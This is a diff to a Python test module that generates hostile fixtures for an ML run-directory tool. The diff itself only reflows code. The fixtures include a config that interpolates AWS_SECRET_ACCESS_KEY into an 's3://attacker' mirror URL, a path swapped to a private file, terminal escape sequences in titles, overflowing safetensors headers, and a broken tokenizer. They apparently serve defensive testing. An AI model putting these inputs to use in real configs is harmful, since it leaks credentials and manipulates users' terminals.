@@ -71,19 +71,14 @@ def _code(run: RunDirectory, place: Path) -> None:
 
 
 def _resolver(run: RunDirectory, place: Path) -> None:
-    _settings(
-        run,
-        "logging: {mirror: 's3://attacker/${oc.env:AWS_SECRET_ACCESS_KEY}', run_name: '${oc.env:HOME}'}\n",
-    )
+    _settings(run, "logging: {mirror: 's3://attacker/${oc.env:AWS_SECRET_ACCESS_KEY}', run_name: '${oc.env:HOME}'}\n")
 
 
 def _paths(run: RunDirectory, place: Path) -> None:
     private = place.parent / "private.txt"
     text = run.config.read_text().replace(str(place / "cats.jsonl"), str(private))
     for path in (run.config, run.checkpoints / "step_00000010" / "config.yaml"):
-        path.write_text(
-            text + f"init: '{place.parent}'\nlogging: {{mirror: 's3://attacker/runs', wandb: true}}\n"
-        )
+        path.write_text(text + f"init: '{place.parent}'\nlogging: {{mirror: 's3://attacker/runs', wandb: true}}\n")
 
 
 def _links(run: RunDirectory, place: Path) -> None:
@@ -108,26 +103,15 @@ def _escapes(run: RunDirectory, place: Path) -> None:
     run.metrics.write_text(json.dumps(row) + "\n")
     run.samples.write_text(json.dumps({"step": 1, "prompt": CONTROL, "text": CONTROL}) + "\n")
     run.derived.write_text(json.dumps({CONTROL: {"value": CONTROL, "reason": CONTROL}}))
-    (run.path / "facts.json").write_text(
-        json.dumps({"gpu": CONTROL, "steps": CONTROL, "baselines": {CONTROL: 1}})
-    )
-    (run.eval / "x.json").write_text(
-        json.dumps({"task": CONTROL, "metric": CONTROL, "value": 1.0, "step": 1})
-    )
+    (run.path / "facts.json").write_text(json.dumps({"gpu": CONTROL, "steps": CONTROL, "baselines": {CONTROL: 1}}))
+    (run.eval / "x.json").write_text(json.dumps({"task": CONTROL, "metric": CONTROL, "value": 1.0, "step": 1}))
     (run.path / f"odd{CONTROL[:8].replace('/', '')}.txt").write_text("x")
     run.log.write_text(CONTROL)
     _settings(run, 'title: "\\e]0;owned\\a\\e[2J"\nlogging: {run_name: "\\e]0;owned\\a"}\n')
 
 
 def _nested(run: RunDirectory, place: Path) -> None:
-    for path in (
-        run.status,
-        run.derived,
-        run.path / "facts.json",
-        run.stages,
-        run.eval / "x.json",
-        run.origin,
-    ):
+    for path in (run.status, run.derived, run.path / "facts.json", run.stages, run.eval / "x.json", run.origin):
         path.write_text(NESTED)
     run.metrics.write_text(NESTED + "\n{}\n")
     run.samples.write_text('{"text": ' + NESTED + "}\n{}\n")
@@ -157,9 +141,7 @@ def _sizes(run: RunDirectory, place: Path) -> None:
     run.model.mkdir()
     shape = {"model": {"family": "gpt", "depth": 10_000_000, "width": 2**62, "vocab_size": 300}}
     (run.model / "config.json").write_text(json.dumps(shape))
-    header = (
-        b'{"a": {"dtype": "F32", "shape": [4611686018427387904], "data_offsets": [0, 18446744073709551616]}}'
-    )
+    header = b'{"a": {"dtype": "F32", "shape": [4611686018427387904], "data_offsets": [0, 18446744073709551616]}}'
     (run.model / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header)
     run.config.write_text(run.config.read_text().replace("depth: 2", "depth: 10000000"))
 
@@ -174,11 +156,7 @@ def _template(run: RunDirectory, place: Path) -> None:
 
 def _tokenizer(run: RunDirectory, place: Path) -> None:
     """tokenizer.json that the library's own code trips over."""
-    broken = {
-        "version": "1.0",
-        "added_tokens": [{"id": 2**63, "content": ""}],
-        "model": {"type": "BPE", "vocab": {}},
-    }
+    broken = {"version": "1.0", "added_tokens": [{"id": 2**63, "content": ""}], "model": {"type": "BPE", "vocab": {}}}
     (run.checkpoints / "step_00000010" / "tokenizer.json").write_text(json.dumps(broken))
 
 
